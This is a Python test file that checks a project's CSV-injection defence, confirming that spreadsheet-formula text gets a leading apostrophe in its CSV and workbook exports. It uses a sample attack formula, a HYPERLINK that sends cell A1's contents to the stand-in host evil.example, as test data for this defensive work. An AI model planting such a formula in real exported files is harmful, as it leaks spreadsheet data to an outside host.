"""Text in the CSV files and workbooks we write is never run as a formula by the spreadsheet that opens them (CSV
injection, CWE-1236): core.cells is the one rule, used by every writer (the public data files, the period report's
CSV, the EU templates as CSV and workbook, the due-diligence register; the public data files are tested in
tests/opendata/test_bulk_files.py)."""

import csv
import gzip
import io

import pytest
from openpyxl import load_workbook

from rightsdesk.core.cells import csv_cell

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(("value", "written"), [
    (ATTACK, "'" + ATTACK),
    ("+1 555 0100 call me", "'+1 555 0100 call me"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tindented", "'\tindented"),
    ("-3.2", "-3.2"),            # a number written as text stays a number
    ("+5", "+5"),
    ("1e-3", "1e-3"),
    (-7, -7),                    # figures are not text
    (2.5, 2.5),
    ("Photograph of a concert", "Photograph of a concert"),
    ("a=b", "a=b"),              # only the first character matters
    ("", ""),
    (None, None),
])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(value, written):
    assert csv_cell(value) == written


@pytest.mark.django_db
def test_the_eu_workbook_keeps_a_qualitative_answer_as_text_in_both_files():
    from rightsdesk.reports import eu_workbook
    from rightsdesk.reports.models import PeriodFigures
    from rightsdesk.reports.periods import parse_period

    PeriodFigures.objects.create(period="2026-H1", qualitative={"own_initiative": ATTACK})
    sheets = eu_workbook.sheets(parse_period("2026-H1"))

    book = load_workbook(io.BytesIO(eu_workbook.to_xlsx(sheets)))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value == ATTACK]
    assert cells and all(cell.data_type == "s" for cell in cells)  # the text as typed, stored as text

    qualitative = next(sheet for sheet in sheets if sheet.key == "qualitative")
    rows = list(csv.reader(io.StringIO(eu_workbook.sheet_csv(qualitative))))
    assert ["'" + ATTACK] == [value for row in rows for value in row if ATTACK in value]


def test_the_report_csv_writes_its_keys_as_text_and_its_figures_as_numbers():
    from datetime import datetime, timezone

    from rightsdesk.reports.periods import parse_period
    from rightsdesk.reports.structure import Column, Report, Row, Section, Table, to_csv

    table = Table("by_instrument", "t", [Column("cases", "Cases"), Column("change", "Change")],
                  rows=[Row(ATTACK, "label", {"cases": 3, "change": -2.5})])
    report = Report(parse_period("2026-H1"), datetime(2026, 7, 1, tzinfo=timezone.utc),
                    [Section("instruments", "s", "", [table])])
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert ["instruments", "by_instrument", "'" + ATTACK, "cases", "3"] in rows
    assert ["instruments", "by_instrument", "'" + ATTACK, "change", "-2.5"] in rows  # a negative figure as it is
